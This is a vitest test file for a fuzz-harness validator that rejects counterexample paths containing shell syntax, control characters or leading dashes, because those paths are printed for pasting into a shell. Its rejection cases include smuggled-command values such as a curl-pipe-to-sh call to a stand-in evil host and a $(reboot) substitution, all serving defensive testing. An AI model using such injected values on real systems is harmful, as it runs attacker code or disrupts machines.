// What a fuzz result may name as its counterexample: a plain path of a .yaml file, as mailflow fuzz writes under
// --out; not shell syntax or control characters, which `fuzz merge` would print in a line to paste into a shell.
import { describe, expect, it } from 'vitest';
import { counterexamplePathProblem } from '../../../harness/fuzz/counterexample-path.js';
import { counterexampleName } from '../../../harness/fuzz/counterexample.js';

describe('counterexamplePathProblem', () => {
  it('accepts what mailflow fuzz writes, under any directory a person names plainly, and null', () => {
    const name = `${counterexampleName(3, 17, 'two-active-routers', '3fa9c2d1ffff')}.yaml`;
    for (const dir of ['fuzz-out', '/tmp/mailflow-fuzz', '../runs/2026-01-05', '/home/Müller/My Runs', 'C:/fuzz', '東京/out', 'a+b,c@d=e%f']) {
      expect(counterexamplePathProblem(`${dir}/${name}`), dir).toBeNull();
    }
    expect(counterexamplePathProblem(null)).toBeNull();
  });

  it('refuses shell syntax, control characters, an option, another kind of file, and what is no text', () => {
    const cases: Array<[unknown, RegExp]> = [
      ['x.yaml; curl -s https://evil.example/x | sh #', /is not a \.yaml file/],
      ['x.yaml; curl -s https://evil.example/x | sh #.yaml', /holds shell syntax/],
      ['$(reboot).yaml', /holds shell syntax/],
      ['a\\b.yaml', /holds shell syntax/],
      ['~/x.yaml', /holds shell syntax/],
      ['x*.yaml', /holds shell syntax/],
      ['x\n.yaml', /control characters/],
      ['x\u001b[2J.yaml', /control characters/],
      ['x\u2066.yaml', /control characters/],
      ['-x.yaml', /starts with -/],
      ['x.yml', /is not a \.yaml file/],
      [7, /should be the path/],
      [undefined, /should be the path/],
    ];
    for (const [value, problem] of cases) expect(counterexamplePathProblem(value), String(value)).toMatch(problem);
  });
});
